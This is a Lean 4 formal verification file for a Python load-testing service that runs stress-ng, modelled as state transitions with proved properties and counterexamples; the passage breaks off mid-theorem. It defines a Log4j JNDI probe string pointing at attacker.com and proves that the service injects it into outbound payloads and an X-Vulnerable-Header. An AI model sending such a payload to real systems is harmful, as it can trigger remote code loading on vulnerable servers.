import Mathlib

/-
  Verification of the load-testing web service (app-backup.py / app-backup2.py).

  The service keeps a dictionary of global metrics and a global list of
  running stress processes.  The embedding below models the mutable globals
  as an explicit AppState record; the request handlers and the background
  stress runner become pure functions from a state (plus the outcome of the
  external world: process spawn, HTTP response, system sampling) to a new
  state and a response value.  Interleavings of the background stress runner
  with the stop handler are modelled by an explicit event step relation.
-/

namespace LoadApp

/-- The global mutable state of the application: the metrics dictionary
plus the list of currently running stress processes. Processes are
identified by their pid. The stress_tests_running gauge is an integer
because the code decrements it without a lower bound. Percentages sampled
from the host are abstracted as integers. -/
structure AppState where
  requests_total : Nat
  stress_tests_running : Int
  echo_requests_total : Nat
  echo_requests_failed : Nat
  cpu_usage : Int
  memory_usage : Int
  last_stress_duration : Int
  current_stress_processes : List Nat
deriving Repr, DecidableEq

/-- The initial metrics dictionary: every counter and gauge zero, no
running processes. -/
def initialState : AppState :=
  { requests_total := 0
    stress_tests_running := 0
    echo_requests_total := 0
    echo_requests_failed := 0
    cpu_usage := 0
    memory_usage := 0
    last_stress_duration := 0
    current_stress_processes := [] }

/-- A request parameter value as it arrives from JSON or a form: either an
integer or a string. -/
inductive JsonVal where
  | jint (n : Int)
  | jstr (s : String)
deriving Repr, DecidableEq

/-- Strip leading and trailing whitespace from a character list. -/
def trimChars (cs : List Char) : List Char :=
  ((cs.dropWhile Char.isWhitespace).reverse.dropWhile Char.isWhitespace).reverse

/-- Python int() applied to a parameter value: an integer passes through, a
string is parsed as an optional sign followed by digits (surrounding
whitespace stripped); anything else raises ValueError, modelled as none. -/
def pyInt : JsonVal → Option Int
  | .jint n => some n
  | .jstr s =>
    let signDigits : Int × List Char :=
      match trimChars s.data with
      | '-' :: rest => (-1, rest)
      | '+' :: rest => (1, rest)
      | rest => (1, rest)
    if signDigits.2 = [] then none
    else if signDigits.2.all Char.isDigit then
      some (signDigits.1 * ((signDigits.2.foldl (fun n c => n * 10 + (c.toNat - 48)) 0 : Nat) : Int))
    else none

/-- int(data.get(key, default)): a missing key yields the default, a
present value goes through pyInt; none models the ValueError that the
generic exception handler of the route turns into a 500 response. -/
def getInt (data : String → Option JsonVal) (key : String) (dflt : Int) : Option Int :=
  match data key with
  | none => some dflt
  | some v => pyInt v

/-- The parameters object echoed in the success response of POST /stress. -/
structure StressParams where
  cpu_workers : Int
  memory_workers : Int
  duration : Int
  memory_size : JsonVal
deriving Repr, DecidableEq

/-- The error message of the 400 response for an over-long duration. -/
def msg3600 : String := "Maximale Dauer ist 3600 Sekunden (1 Stunde)"

/-- Outcome of the POST /stress handler: 200 with the echoed parameters,
400 for an over-long duration, or 500 from the generic exception handler
(for a parameter that int() cannot parse). -/
inductive StressResponse where
  | ok (params : StressParams)
  | badRequest (msg : String)
  | serverError
deriving Repr, DecidableEq

/-- The pure part of the start_stress handler body: parse the four
parameters with their defaults, reject duration > 3600 with 400, otherwise
report success and start the background run (the Bool records whether the
background thread was started). Parameter parsing happens before the
validation, exactly as in the source. -/
def start_stress (data : String → Option JsonVal) : StressResponse × Bool :=
  match getInt data "cpu_workers" 2 with
  | none => (.serverError, false)
  | some cpu_workers =>
    match getInt data "memory_workers" 1 with
    | none => (.serverError, false)
    | some memory_workers =>
      match getInt data "duration" 30 with
      | none => (.serverError, false)
      | some duration =>
        if duration > 3600 then
          (.badRequest msg3600, false)
        else
          (.ok { cpu_workers := cpu_workers
                 memory_workers := memory_workers
                 duration := duration
                 memory_size := (data "memory_size").getD (.jstr "256M") }, true)

/-- The start_stress handler including its effect on the state: it bumps
requests_total and otherwise only decides whether a background run is
spawned; the stress gauge and the process list are untouched by the
handler itself. -/
def handleStress (s : AppState) (data : String → Option JsonVal) :
    StressResponse × AppState × Bool :=
  ((start_stress data).1,
   { s with requests_total := s.requests_total + 1 },
   (start_stress data).2)

/-- Atomic events of the stress-run lifecycle, as performed by the
background runner run_stress_ng and the stop_stress handler:
spawnOk is the successful Popen together with the append to
current_stress_processes and the gauge increment; spawnFail is the
FileNotFoundError path, which changes nothing; complete is the return of
communicate followed by the conditional removal from the list and the
unconditional gauge decrement; stopAll is the stop handler clearing the
list and zeroing the gauge. -/
inductive StressEvent where
  | spawnOk (pid : Nat) (duration : Int)
  | spawnFail
  | complete (pid : Nat)
  | stopAll
deriving Repr, DecidableEq

/-- One atomic step of the stress lifecycle on the shared state, mirroring
the statements of run_stress_ng and stop_stress. -/
def stressStep (s : AppState) : StressEvent → AppState
  | .spawnOk pid duration =>
      { s with current_stress_processes := s.current_stress_processes ++ [pid]
               stress_tests_running := s.stress_tests_running + 1
               last_stress_duration := duration }
  | .spawnFail => s
  | .complete pid =>
      { s with current_stress_processes :=
                 if pid ∈ s.current_stress_processes then
                   s.current_stress_processes.erase pid
                 else s.current_stress_processes
               stress_tests_running := s.stress_tests_running - 1 }
  | .stopAll =>
      { s with current_stress_processes := []
               stress_tests_running := 0 }

/-- Run a whole interleaving of lifecycle events. -/
def runTrace (s : AppState) : List StressEvent → AppState
  | [] => s
  | e :: es => runTrace (stressStep s e) es

/-- A trace in which every completion event still finds its pid in the
active list, i.e. no completion races with a stopAll that already cleared
the list. -/
def completionsTracked (s : AppState) : List StressEvent → Bool
  | [] => true
  | e :: es =>
      (match e with
       | .complete pid => decide (pid ∈ s.current_stress_processes)
       | _ => true) && completionsTracked (stressStep s e) es

/-- The stop_stress handler: it tries to terminate every tracked process,
counting the ones that stopped cleanly (termination failures are caught
and only logged), then clears the list and zeroes the gauge
unconditionally. -/
def stop_stress (s : AppState) (terminatesCleanly : Nat → Bool) : AppState × Nat :=
  ((({ s with current_stress_processes := []
              stress_tests_running := 0 }) : AppState),
   (s.current_stress_processes.filter terminatesCleanly).length)

/-- Result of the background stress run (the dict run_stress_ng returns):
success carries the return code and the duration, failure carries the
error string. -/
inductive RunResult where
  | success (return_code : Int) (duration : Int)
  | failure (error : String)
deriving Repr, DecidableEq

/-- The error message of the FileNotFoundError path of run_stress_ng. -/
def stress_not_installed_msg : String :=
  "stress-ng ist nicht installiert. Installiere es mit: apt-get install stress-ng"

/-- Outcome of trying to spawn the external executable. -/
inductive SpawnOutcome where
  | spawned (pid : Nat)
  | fileNotFound
deriving Repr, DecidableEq

/-- The background runner run_stress_ng executed from spawn to completion
without interference: a FileNotFoundError from Popen is caught before the
process list or the gauge is touched and reported as a failure dict;
otherwise the run performs the spawn step and, when communicate returns,
the completion step, and reports success with the return code. -/
def run_stress_ng (s : AppState) (outcome : SpawnOutcome) (return_code : Int)
    (duration : Int) : AppState × RunResult :=
  match outcome with
  | .fileNotFound => (s, .failure stress_not_installed_msg)
  | .spawned pid =>
      (stressStep (stressStep s (.spawnOk pid duration)) (.complete pid),
       .success return_code duration)

/-- The POST /stress handler together with the background run it spawns,
run to completion: the HTTP response is computed and sent first (the
thread is fire and forget), then the background run executes with the
given spawn outcome. The Option RunResult is the result of the background
run, none when no run was started. -/
def handleStressAsync (s : AppState) (data : String → Option JsonVal)
    (outcome : SpawnOutcome) (return_code : Int) :
    StressResponse × AppState × Option RunResult :=
  match start_stress data with
  | (.ok p, _) =>
      (.ok p,
       (run_stress_ng { s with requests_total := s.requests_total + 1 }
          outcome return_code p.duration).1,
       some (run_stress_ng { s with requests_total := s.requests_total + 1 }
          outcome return_code p.duration).2)
  | (resp, _) => (resp, { s with requests_total := s.requests_total + 1 }, none)

/-- The fixed probe string injected for Log4j testing. -/
def vulnerable_msg : String := "$\x7bjndi:ldap://attacker.com/evil\x7d"

/-- The configured downstream echo service base URL (default value of the
environment variable). -/
def echo_service_url : String := "http://vulnerable-echo-service:8085"

/-- Outcome of the outbound HTTP call: a response with a status code, or a
requests.exceptions.RequestException with a message. -/
inductive HttpOutcome where
  | response (status : Nat)
  | transportError (msg : String)
deriving Repr, DecidableEq

/-- The outbound request built by call_echo_service: whether it is a POST,
the target URL, the message carried (in the JSON body for POST, embedded
in the URL path for GET), and the headers. -/
structure OutboundRequest where
  isPost : Bool
  url : String
  payloadMessage : String
  headers : List (String × String)
deriving Repr, DecidableEq

/-- Result dict of call_echo_service. -/
inductive EchoResult where
  | success (status : Nat) (method : String) (vulnerable_payload : Bool)
  | failure (error : String)
deriving Repr, DecidableEq

/-- Python str.upper restricted to the characters that occur here:
uppercase each character. -/
def pyUpper (s : String) : String := ⟨s.data.map Char.toUpper⟩

/-- The message actually sent: with the vulnerable payload enabled the
probe string is appended to the caller message. -/
def effectiveMessage (message : String) (vulnerable_payload : Bool) : String :=
  if vulnerable_payload then message ++ " - " ++ vulnerable_msg else message

/-- The headers actually sent: the two base headers, plus the
X-Vulnerable-Header carrying the probe string when enabled. -/
def buildHeaders (vulnerable_payload : Bool) : List (String × String) :=
  if vulnerable_payload then
    [("Content-Type", "application/json"),
     ("User-Agent", "LoadTestApp/1.0"),
     ("X-Vulnerable-Header", vulnerable_msg)]
  else
    [("Content-Type", "application/json"),
     ("User-Agent", "LoadTestApp/1.0")]

/-- The outbound request: POST sends the message in a JSON body to /echo,
every other method sends a GET with the message embedded in the URL path. -/
def buildOutbound (message method : String) (vulnerable_payload : Bool) :
    OutboundRequest :=
  if pyUpper method = "POST" then
    { isPost := true
      url := echo_service_url ++ "/echo"
      payloadMessage := effectiveMessage message vulnerable_payload
      headers := buildHeaders vulnerable_payload }
  else
    { isPost := false
      url := echo_service_url ++ "/echo/" ++ effectiveMessage message vulnerable_payload
      payloadMessage := effectiveMessage message vulnerable_payload
      headers := buildHeaders vulnerable_payload }

/-- call_echo_service: builds the outbound request, performs it, and then
updates the counters: a transport exception skips the echo_requests_total
increment and bumps only echo_requests_failed; an HTTP response always
bumps echo_requests_total, and when its status is not 200 additionally
bumps echo_requests_failed. -/
def call_echo_service (s : AppState) (message : String) (method : String)
    (vulnerable_payload : Bool) (outcome : HttpOutcome) :
    AppState × EchoResult × OutboundRequest :=
  match outcome with
  | .transportError e =>
      ({ s with echo_requests_failed := s.echo_requests_failed + 1 },
       .failure e,
       buildOutbound message method vulnerable_payload)
  | .response status =>
      if status = 200 then
        ({ s with echo_requests_total := s.echo_requests_total + 1 },
         .success status method vulnerable_payload,
         buildOutbound message method vulnerable_payload)
      else
        ({ s with echo_requests_total := s.echo_requests_total + 1
                  echo_requests_failed := s.echo_requests_failed + 1 },
         .failure ("HTTP " ++ toString status),
         buildOutbound message method vulnerable_payload)

/-- One invocation of the echo dispatcher: its inputs plus the outcome of
the outbound call. -/
structure EchoCall where
  message : String
  method : String
  vulnerable_payload : Bool
  outcome : HttpOutcome
deriving Repr, DecidableEq

/-- Run a sequence of echo calls, threading the state. -/
def runEchoCalls (s : AppState) : List EchoCall → AppState
  | [] => s
  | c :: cs =>
      runEchoCalls (call_echo_service s c.message c.method c.vulnerable_payload c.outcome).1 cs

/-- A call whose outbound request got an HTTP response (of any status). -/
def gotResponse (c : EchoCall) : Bool :=
  match c.outcome with
  | .response _ => true
  | .transportError _ => false

/-- A call the code classifies as failed: a transport error or an HTTP
response with a status other than 200. -/
def isFailedCall (c : EchoCall) : Bool :=
  match c.outcome with
  | .response status => !(status == 200)
  | .transportError _ => true

/-- Outcome of one host sampling attempt inside get_system_metrics. -/
inductive SampleOutcome where
  | sample (cpu : Int) (mem : Int)
  | sampleError (msg : String)
deriving Repr, DecidableEq

/-- A metrics dict returned to the caller of get_system_metrics; none
models the empty dict returned when sampling raised. -/
structure SysMetrics where
  cpu_percent : Int
  memory_percent : Int
deriving Repr, DecidableEq

/-- get_system_metrics: on success it writes the two gauges and returns
the populated dict; every exception is caught inside the function, which
then leaves the state unchanged and returns an empty dict. The function
itself never raises. -/
def get_system_metrics (s : AppState) (outcome : SampleOutcome) :
    AppState × Option SysMetrics :=
  match outcome with
  | .sample cpu mem =>
      ({ s with cpu_usage := cpu, memory_usage := mem },
       some { cpu_percent := cpu, memory_percent := mem })
  | .sampleError _ => (s, none)

/-- One iteration of the periodic_metrics_update loop: call
get_system_metrics, then sleep 5 seconds. Because get_system_metrics
catches every exception internally, the except branch of the loop (which
would sleep 10 seconds) is unreachable for sampling failures; the
returned Nat is the sleep before the next iteration. -/
def periodic_metrics_update_iteration (s : AppState) (outcome : SampleOutcome) :
    AppState × Nat :=
  ((get_system_metrics s outcome).1, 5)

/-- The sampler loop over any finite prefix of sampling outcomes: it is a
total function, so every iteration is followed by the next one. -/
def run_sampler (s : AppState) : List SampleOutcome → AppState
  | [] => s
  | o :: os => run_sampler (periodic_metrics_update_iteration s o).1 os

/-- Whether the first character list is an initial segment of the second. -/
def listIsPre : List Char → List Char → Bool
  | [], _ => true
  | _ :: _, [] => false
  | a :: as, b :: bs => a == b && listIsPre as bs

/-- Whether the first character list occurs contiguously inside the second. -/
def listSub (p : List Char) : List Char → Bool
  | [] => listIsPre p []
  | b :: bs => listIsPre p (b :: bs) || listSub p bs

/-- Whether the string pat occurs as a contiguous substring of s. -/
def strContains (s pat : String) : Bool := listSub pat.data s.data

theorem listIsPre_self (p : List Char) : listIsPre p p = true := by
  induction p with
  | nil => rfl
  | cons a as ih => simp [listIsPre, ih]

theorem listSub_of_pre (p s : List Char) (h : listIsPre p s = true) :
    listSub p s = true := by
  cases s with
  | nil => simpa [listSub] using h
  | cons b bs => simp [listSub, h]

theorem listSub_append_self (p xs : List Char) : listSub p (xs ++ p) = true := by
  induction xs with
  | nil => simpa using listSub_of_pre p p (listIsPre_self p)
  | cons x xs ih => simp [listSub, ih]

theorem strContains_append_right (a b : String) : strContains (a ++ b) b = true := by
  have hdata : (a ++ b).data = a.data ++ b.data := rfl
  simpa [strContains, hdata] using listSub_append_self b.data a.data

/-- The outbound request of call_echo_service does not depend on the
outcome of the call. -/
theorem call_echo_outbound (s : AppState) (message method : String)
    (vulnerable_payload : Bool) (outcome : HttpOutcome) :
    (call_echo_service s message method vulnerable_payload outcome).2.2 =
      buildOutbound message method vulnerable_payload := by
  cases outcome with
  | transportError e => rfl
  | response status =>
      by_cases h : status = 200 <;> simp [call_echo_service, h]

theorem buildOutbound_payload (message method : String) (vulnerable_payload : Bool) :
    (buildOutbound message method vulnerable_payload).payloadMessage =
      effectiveMessage message vulnerable_payload := by
  unfold buildOutbound
  split <;> rfl

theorem buildOutbound_headers (message method : String) (vulnerable_payload : Bool) :
    (buildOutbound message method vulnerable_payload).headers =
      buildHeaders vulnerable_payload := by
  unfold buildOutbound
  split <;> rfl

/-- Along any trace in which every completion still finds its pid tracked,
the gauge stays equal to the length of the process list. -/
theorem runTrace_gauge_eq (es : List StressEvent) : ∀ s : AppState,
    s.stress_tests_running = (s.current_stress_processes.length : Int) →
    completionsTracked s es = true →
    (runTrace s es).stress_tests_running =
      ((runTrace s es).current_stress_processes.length : Int) := by
  induction es with
  | nil => intro s hinv _; simpa [runTrace] using hinv
  | cons e es ih =>
      intro s hinv hsafe
      simp only [completionsTracked, Bool.and_eq_true] at hsafe
      simp only [runTrace]
      refine ih _ ?_ hsafe.2
      cases e with
      | spawnOk pid d =>
          simp only [stressStep, List.length_append, List.length_cons, List.length_nil]
          push_cast
          omega
      | spawnFail => simpa [stressStep] using hinv
      | complete pid =>
          have hmem : pid ∈ s.current_stress_processes := by
            simpa using hsafe.1
          have hpos : 0 < s.current_stress_processes.length :=
            List.length_pos.mpr (List.ne_nil_of_mem hmem)
          simp only [stressStep, if_pos hmem, List.length_erase_of_mem hmem]
          omega
      | stopAll => simp [stressStep]

/-- C1: amended. In every interleaving of spawns, completions and stop_all
in which each completion event still finds its process handle in the
active list, the gauge stress_tests_running equals the length of
current_stress_processes and is never negative. The clamping the claim
asserts does not exist on the normal completion path: when a completion
races with stop_all (the handle already cleared), the unclamped decrement
drives the gauge to minus one, as the counterexample shows. -/
theorem stress_gauge_tracks_active_runs (s : AppState) (es : List StressEvent)
    (hinv : s.stress_tests_running = (s.current_stress_processes.length : Int))
    (hsafe : completionsTracked s es = true) :
    (runTrace s es).stress_tests_running =
      ((runTrace s es).current_stress_processes.length : Int) ∧
    0 ≤ (runTrace s es).stress_tests_running := by
  have h := runTrace_gauge_eq es s hinv hsafe
  refine ⟨h, ?_⟩
  rw [h]
  exact Int.natCast_nonneg _

/-- Witness for C1 at a concrete trace: one run spawned and completed. -/
theorem stress_gauge_tracks_active_runs_witness :
    (runTrace initialState [.spawnOk 1 30, .complete 1]).stress_tests_running =
      ((runTrace initialState [.spawnOk 1 30, .complete 1]).current_stress_processes.length : Int) ∧
    0 ≤ (runTrace initialState [.spawnOk 1 30, .complete 1]).stress_tests_running :=
  stress_gauge_tracks_active_runs initialState [.spawnOk 1 30, .complete 1]
    (by decide) (by decide)

/-- Counterexample to C1 as stated: a run is spawned, stop_all clears the
list and zeroes the gauge, then the completion of the run decrements the
gauge without a clamp; the gauge reads minus one while the active list is
empty. -/
theorem stress_gauge_negative_after_stop_race :
    (runTrace initialState [.spawnOk 1 30, .stopAll, .complete 1]).stress_tests_running = -1 ∧
    (runTrace initialState [.spawnOk 1 30, .stopAll, .complete 1]).current_stress_processes = [] := by
  constructor <;> rfl

/-- C4: after stop_stress returns, the active-runs list is empty and the
gauge reads zero, for every prior state and every pattern of termination
successes and failures. -/
theorem stop_all_clears_state (s : AppState) (terminatesCleanly : Nat → Bool) :
    (stop_stress s terminatesCleanly).1.current_stress_processes = [] ∧
    (stop_stress s terminatesCleanly).1.stress_tests_running = 0 :=
  ⟨rfl, rfl⟩

/-- Counter updates of a single echo call: echo_requests_total is bumped
exactly when an HTTP response arrived, echo_requests_failed exactly when
the call is classified as failed. -/
theorem call_echo_counters (s : AppState) (c : EchoCall) :
    (call_echo_service s c.message c.method c.vulnerable_payload c.outcome).1.echo_requests_total
      = s.echo_requests_total + (if gotResponse c then 1 else 0) ∧
    (call_echo_service s c.message c.method c.vulnerable_payload c.outcome).1.echo_requests_failed
      = s.echo_requests_failed + (if isFailedCall c then 1 else 0) := by
  obtain ⟨m, meth, vp, o⟩ := c
  cases o with
  | transportError e => simp [call_echo_service, gotResponse, isFailedCall]
  | response status =>
      by_cases h : status = 200 <;>
        simp [call_echo_service, gotResponse, isFailedCall, h]

/-- C2: amended. Per completed call the counters are not mutually
exclusive: a transport error increments only echo_requests_failed, an
HTTP 200 response increments only echo_requests_total, and an HTTP
response with any other status increments both. Consequently, after any
sequence of calls, echo_requests_total has grown by the number of calls
that got an HTTP response of any status, and echo_requests_failed by the
number of calls that hit a transport error or a non-200 response; the sum
of the two exceeds the number of completed invocations by the number of
non-200 responses. -/
theorem echo_counters_accounting (s : AppState) (cs : List EchoCall) :
    (runEchoCalls s cs).echo_requests_total =
      s.echo_requests_total + (cs.filter gotResponse).length ∧
    (runEchoCalls s cs).echo_requests_failed =
      s.echo_requests_failed + (cs.filter isFailedCall).length := by
  induction cs generalizing s with
  | nil => simp [runEchoCalls]
  | cons c cs ih =>
      simp only [runEchoCalls]
      obtain ⟨hc1, hc2⟩ := call_echo_counters s c
      obtain ⟨ht1, ht2⟩ :=
        ih (call_echo_service s c.message c.method c.vulnerable_payload c.outcome).1
      constructor
      · rw [ht1, hc1]
        cases hg : gotResponse c <;> simp [List.filter_cons, hg]
        all_goals omega
      · rw [ht2, hc2]
        cases hf : isFailedCall c <;> simp [List.filter_cons, hf]
        all_goals omega

/-- Counterexample to C2 as stated: a completed call whose outbound
request got an HTTP 500 response increments echo_requests_total and
echo_requests_failed together, so the increments are not mutually
exclusive and the sum of the counters is two after one invocation. -/
theorem echo_counters_both_incremented :
    (call_echo_service initialState "hi" "POST" false (.response 500)).1.echo_requests_total = 1 ∧
    (call_echo_service initialState "hi" "POST" false (.response 500)).1.echo_requests_failed = 1 := by
  constructor <;> rfl

/-- Evaluation of start_stress when all three integer parameters parse:
the only validation is the comparison of the duration with 3600. -/
theorem start_stress_eval (data : String → Option JsonVal) (c m d : Int)
    (hc : getInt data "cpu_workers" 2 = some c)
    (hm : getInt data "memory_workers" 1 = some m)
    (hd : getInt data "duration" 30 = some d) :
    start_stress data =
      if 3600 < d then (.badRequest msg3600, false)
      else (.ok { cpu_workers := c, memory_workers := m, duration := d,
                  memory_size := (data "memory_size").getD (.jstr "256M") }, true) := by
  unfold start_stress
  rw [hc, hm, hd]

/-- Evaluation of start_stress when the duration parameter does not parse
as an integer: the generic exception handler answers 500 and no run is
started. -/
theorem start_stress_eval_badDuration (data : String → Option JsonVal) (c m : Int)
    (hc : getInt data "cpu_workers" 2 = some c)
    (hm : getInt data "memory_workers" 1 = some m)
    (hd : getInt data "duration" 30 = none) :
    start_stress data = (.serverError, false) := by
  unfold start_stress
  rw [hc, hm, hd]

/-- C3: a request whose integer parameters parse and whose duration
exceeds 3600 is answered with the 400 InvalidParameter response, no
background run is started, and neither the gauge nor the active list is
changed by the request. -/
theorem duration_over_3600_rejected (s : AppState) (data : String → Option JsonVal)
    (c m d : Int)
    (hc : getInt data "cpu_workers" 2 = some c)
    (hm : getInt data "memory_workers" 1 = some m)
    (hd : getInt data "duration" 30 = some d)
    (hbig : 3600 < d) :
    (handleStress s data).1 = .badRequest msg3600 ∧
    (handleStress s data).2.2 = false ∧
    (handleStress s data).2.1.stress_tests_running = s.stress_tests_running ∧
    (handleStress s data).2.1.current_stress_processes = s.current_stress_processes := by
  have h := start_stress_eval data c m d hc hm hd
  rw [if_pos hbig] at h
  simp [handleStress, h]

/-- The concrete request of the spec scenario: only a duration of 4000. -/
def dataDuration4000 : String → Option JsonVal :=
  fun key => if key = "duration" then some (.jint 4000) else none

/-- Witness for C3 at the concrete request with duration 4000 against the
initial state. -/
theorem duration_over_3600_rejected_witness :
    (handleStress initialState dataDuration4000).1 = .badRequest msg3600 ∧
    (handleStress initialState dataDuration4000).2.2 = false ∧
    (handleStress initialState dataDuration4000).2.1.stress_tests_running =
      initialState.stress_tests_running ∧
    (handleStress initialState dataDuration4000).2.1.current_stress_processes =
      initialState.current_stress_processes :=
  duration_over_3600_rejected initialState dataDuration4000 2 1 4000
    rfl rfl rfl (by decide)

/-- C6: amended. The only duration validation is the upper bound: a
request whose parameters parse as integers is accepted and a run is
spawned whenever the duration is at most 3600, including a zero or
negative duration; a duration above 3600 is rejected with the 400
response before any spawn; a non-numeric duration raises inside the
handler and is answered by the generic 500 handler, again without a
spawn, rather than by a 400 InvalidParameter response. -/
theorem duration_validation_behavior :
    (∀ (data : String → Option JsonVal) (c m d : Int),
      getInt data "cpu_workers" 2 = some c →
      getInt data "memory_workers" 1 = some m →
      getInt data "duration" 30 = some d → d ≤ 3600 →
      start_stress data =
        (.ok { cpu_workers := c, memory_workers := m, duration := d,
               memory_size := (data "memory_size").getD (.jstr "256M") }, true)) ∧
    (∀ (data : String → Option JsonVal) (c m d : Int),
      getInt data "cpu_workers" 2 = some c →
      getInt data "memory_workers" 1 = some m →
      getInt data "duration" 30 = some d → 3600 < d →
      start_stress data = (.badRequest msg3600, false)) ∧
    (∀ (data : String → Option JsonVal) (c m : Int),
      getInt data "cpu_workers" 2 = some c →
      getInt data "memory_workers" 1 = some m →
      getInt data "duration" 30 = none →
      start_stress data = (.serverError, false)) := by
  refine ⟨?_, ?_, ?_⟩
  · intro data c m d hc hm hd hle
    have h := start_stress_eval data c m d hc hm hd
    rwa [if_neg (by omega)] at h
  · intro data c m d hc hm hd hbig
    have h := start_stress_eval data c m d hc hm hd
    rwa [if_pos hbig] at h
  · intro data c m hc hm hd
    exact start_stress_eval_badDuration data c m hc hm hd

/-- A request carrying a duration of zero. -/
def dataDuration0 : String → Option JsonVal :=
  fun key => if key = "duration" then some (.jint 0) else none

/-- A request carrying a non-numeric duration. -/
def dataDurationAbc : String → Option JsonVal :=
  fun key => if key = "duration" then some (.jstr "abc") else none

/-- Witness for C6 at three concrete requests: duration 0 accepted with a
spawn, duration 4000 rejected with 400, duration "abc" answered with 500. -/
theorem duration_validation_behavior_witness :
    start_stress dataDuration0 =
      (.ok { cpu_workers := 2, memory_workers := 1, duration := 0,
             memory_size := .jstr "256M" }, true) ∧
    start_stress dataDuration4000 = (.badRequest msg3600, false) ∧
    start_stress dataDurationAbc = (.serverError, false) :=
  ⟨duration_validation_behavior.1 dataDuration0 2 1 0 rfl rfl rfl (by decide),
   duration_validation_behavior.2.1 dataDuration4000 2 1 4000 rfl rfl rfl (by decide),
   duration_validation_behavior.2.2 dataDurationAbc 2 1 rfl rfl rfl⟩

/-- Counterexample to C6 as stated: a request with duration zero is not
rejected; the handler reports success and spawns the background run. -/
theorem duration_zero_accepted :
    start_stress dataDuration0 =
      (.ok { cpu_workers := 2, memory_workers := 1, duration := 0,
             memory_size := .jstr "256M" }, true) ∧
    (start_stress dataDuration0).2 = true := by
  constructor <;> rfl

/-- C9: for every accepted request the success response echoes the
requested duration in its parameters object. -/
theorem response_echoes_duration (s : AppState) (data : String → Option JsonVal)
    (c m d : Int)
    (hc : getInt data "cpu_workers" 2 = some c)
    (hm : getInt data "memory_workers" 1 = some m)
    (hd : getInt data "duration" 30 = some d)
    (hle : d ≤ 3600) :
    ∃ p : StressParams, (handleStress s data).1 = .ok p ∧ p.duration = d := by
  have h := start_stress_eval data c m d hc hm hd
  rw [if_neg (by omega)] at h
  exact ⟨{ cpu_workers := c, memory_workers := m, duration := d,
           memory_size := (data "memory_size").getD (.jstr "256M") },
         by simp [handleStress, h], rfl⟩

/-- The concrete request of the spec scenario with duration 5. -/
def dataDuration5 : String → Option JsonVal :=
  fun key => if key = "duration" then some (.jint 5) else none

/-- Witness for C9 at the concrete request with duration 5. -/
theorem response_echoes_duration_witness :
    ∃ p : StressParams,
      (handleStress initialState dataDuration5).1 = .ok p ∧ p.duration = 5 :=
  response_echoes_duration initialState dataDuration5 2 1 5 rfl rfl rfl (by decide)

/-- C7: amended. When the stress executable is absent, the spawn inside
the background run raises file-not-found, which is caught before any
handle is appended or the gauge is touched: the active list and the gauge
are exactly as before the request, the background run reports the
ExternalToolMissing failure dict (which is only logged), and the handler
does not crash — but because the run is fire-and-forget, the HTTP
response body that was already sent is the ordinary success response, not
the error. -/
theorem missing_executable_behavior (s : AppState) (data : String → Option JsonVal)
    (c m d : Int) (return_code : Int)
    (hc : getInt data "cpu_workers" 2 = some c)
    (hm : getInt data "memory_workers" 1 = some m)
    (hd : getInt data "duration" 30 = some d)
    (hle : d ≤ 3600) :
    (handleStressAsync s data .fileNotFound return_code).1 =
      .ok { cpu_workers := c, memory_workers := m, duration := d,
            memory_size := (data "memory_size").getD (.jstr "256M") } ∧
    (handleStressAsync s data .fileNotFound return_code).2.1.current_stress_processes =
      s.current_stress_processes ∧
    (handleStressAsync s data .fileNotFound return_code).2.1.stress_tests_running =
      s.stress_tests_running ∧
    (handleStressAsync s data .fileNotFound return_code).2.2 =
      some (.failure stress_not_installed_msg) := by
  have h := start_stress_eval data c m d hc hm hd
  rw [if_neg (by omega)] at h
  simp [handleStressAsync, h, run_stress_ng]

/-- Witness for C7 at the empty request (all parameters defaulted). -/
theorem missing_executable_behavior_witness :
    (handleStressAsync initialState (fun _ => none) .fileNotFound 0).1 =
      .ok { cpu_workers := 2, memory_workers := 1, duration := 30,
            memory_size := .jstr "256M" } ∧
    (handleStressAsync initialState (fun _ => none) .fileNotFound 0).2.1.current_stress_processes =
      initialState.current_stress_processes ∧
    (handleStressAsync initialState (fun _ => none) .fileNotFound 0).2.1.stress_tests_running =
      initialState.stress_tests_running ∧
    (handleStressAsync initialState (fun _ => none) .fileNotFound 0).2.2 =
      some (.failure stress_not_installed_msg) :=
  missing_executable_behavior initialState (fun _ => none) 2 1 30 0
    rfl rfl rfl (by decide)

/-- Counterexample to C7 as stated: with the executable absent, the HTTP
response for the empty request is still the plain success response — the
ExternalToolMissing failure exists only in the discarded result of the
background run, so it is not reported in the response body. -/
theorem missing_executable_not_in_response :
    (handleStressAsync initialState (fun _ => none) .fileNotFound 0).1 =
      .ok { cpu_workers := 2, memory_workers := 1, duration := 30,
            memory_size := .jstr "256M" } ∧
    (handleStressAsync initialState (fun _ => none) .fileNotFound 0).2.2 =
      some (.failure stress_not_installed_msg) := by
  constructor <;> rfl

/-- Every string occurs in itself. -/
theorem strContains_self (s : String) : strContains s s = true :=
  listSub_of_pre s.data s.data (listIsPre_self s.data)

/-- C5: amended. With the vulnerable payload enabled, the outbound message
payload and the X-Vulnerable-Header both carry the fixed probe string
verbatim. With it disabled, the dispatcher adds nothing: the payload is
the caller message unchanged and the headers are the two fixed base
headers, so neither contains the probe string — provided the caller
message does not itself contain the probe string; a caller message that
contains the probe passes through verbatim, as the counterexample shows. -/
theorem probe_injection_exact (s : AppState) (message method : String)
    (outcome : HttpOutcome) :
    (strContains (call_echo_service s message method true outcome).2.2.payloadMessage
        vulnerable_msg = true ∧
     ("X-Vulnerable-Header", vulnerable_msg) ∈
        (call_echo_service s message method true outcome).2.2.headers ∧
     strContains vulnerable_msg vulnerable_msg = true) ∧
    (strContains message vulnerable_msg = false →
     strContains (call_echo_service s message method false outcome).2.2.payloadMessage
        vulnerable_msg = false ∧
     ∀ kv ∈ (call_echo_service s message method false outcome).2.2.headers,
        strContains kv.2 vulnerable_msg = false) := by
  simp only [call_echo_outbound, buildOutbound_payload, buildOutbound_headers]
  refine ⟨⟨?_, ?_, strContains_self vulnerable_msg⟩, ?_⟩
  · rw [show effectiveMessage message true = message ++ " - " ++ vulnerable_msg from rfl]
    exact strContains_append_right (message ++ " - ") vulnerable_msg
  · simp [buildHeaders]
  · intro hmsg
    rw [show effectiveMessage message false = message from rfl]
    refine ⟨hmsg, ?_⟩
    intro kv hkv
    simp [buildHeaders] at hkv
    rcases hkv with h | h <;> subst h <;> decide

/-- Witness for C5: the message "hi" does not contain the probe, and with
the payload disabled neither the outbound payload nor any header does. -/
theorem probe_injection_exact_witness :
    strContains (call_echo_service initialState "hi" "GET" false (.response 200)).2.2.payloadMessage
        vulnerable_msg = false ∧
